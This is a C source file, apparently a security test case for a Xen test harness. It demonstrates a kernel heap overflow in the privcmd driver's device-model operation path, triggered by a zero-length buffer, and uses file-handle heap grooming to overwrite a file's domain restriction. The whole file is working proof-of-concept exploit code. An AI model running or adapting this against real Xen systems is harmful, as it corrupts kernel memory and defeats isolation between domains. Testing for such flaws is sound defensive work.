// SPDX-License-Identifier: GPL-2.0-only
/*
 * L-DMOP-EMPTY: write past the end of a list in the kernel's heap.
 *
 * privcmd pins the pages of a device model's buffers. For one of no bytes that
 * begins a page it asks for no pages, and gets all that are mapped from there
 * on: their descriptions' addresses are written behind the end of a list that
 * has room for none. Here it is one page, and what lies behind the list is most
 * likely what privcmd keeps for an open file: the domain that the file is
 * restricted to. A file that was not restricted then is.
 */
#include "../frames/paging.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>

#include "../privcmd.h"

#define NR_FILES 4096
#define NR_TRIES 1024

static int files[NR_FILES + NR_TRIES];

static int open_file(void)
{
    return open("/dev/xen/privcmd", O_RDWR | O_CLOEXEC);
}

/* Of a request without buffers only the domain is looked at. */
static bool is_restricted(int file)
{
    const struct privcmd_dm_op request = { .dom = 1 };

    return file >= 0 && ioctl(file, IOCTL_PRIVCMD_DM_OP, &request) &&
           errno == EPERM;
}

static bool any_restricted(size_t nr)
{
    for ( size_t i = 0; i < nr; i++ )
        if ( is_restricted(files[i]) )
            return true;

    return false;
}

/* One page, and none behind it. */
static char *last_page(void)
{
    char *pages = mmap(NULL, 2 * PAGE_SIZE, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

    munmap(pages + PAGE_SIZE, PAGE_SIZE);
    return pages;
}

static void pin_nothing(char *page)
{
    static uint64_t operation[8];
    const struct privcmd_dm_op_buf bufs[] = {
        { .uptr = operation, .size = sizeof(operation) },
        { .uptr = page, .size = 0 },
    };
    const struct privcmd_dm_op request = { .dom = 1, .num = 2, .ubufs = bufs };

    if ( ioctl(node_fd(), IOCTL_PRIVCMD_DM_OP, &request) )
        note_node_error(errno);
}

/* Of what the kernel keeps for the files, each eighth makes room for a list. */
static void open_files(void)
{
    const struct rlimit limit = { NR_FILES + NR_TRIES + 64,
                                  NR_FILES + NR_TRIES + 64 };

    setrlimit(RLIMIT_NOFILE, &limit);
    for ( size_t i = 0; i < NR_FILES; i++ )
        files[i] = open_file();
    for ( size_t i = 0; i < NR_FILES; i += 8 )
    {
        close(files[i]);
        files[i] = -1;
    }
}

ATTACK_OWN_BOOT("L-DMOP-EMPTY", "pin the pages of a buffer that has none")
{
    char *page = last_page();
    size_t nr = NR_FILES;
    bool restricted = false;

    stay_on_cpu(0);
    open_files();
    if ( any_restricted(nr) )
        return cannot_try("a new file of privcmd's is restricted");

    for ( unsigned int i = 0; i < NR_TRIES && !restricted; i++ )
    {
        pin_nothing(page);
        files[nr++] = open_file(); /* in the list's place: on to the next */
        if ( i % 32 == 31 )
            restricted = any_restricted(nr);
    }

    return effect_either(restricted, "what the kernel keeps for an open file",
                         "overwritten", "as it was");
}
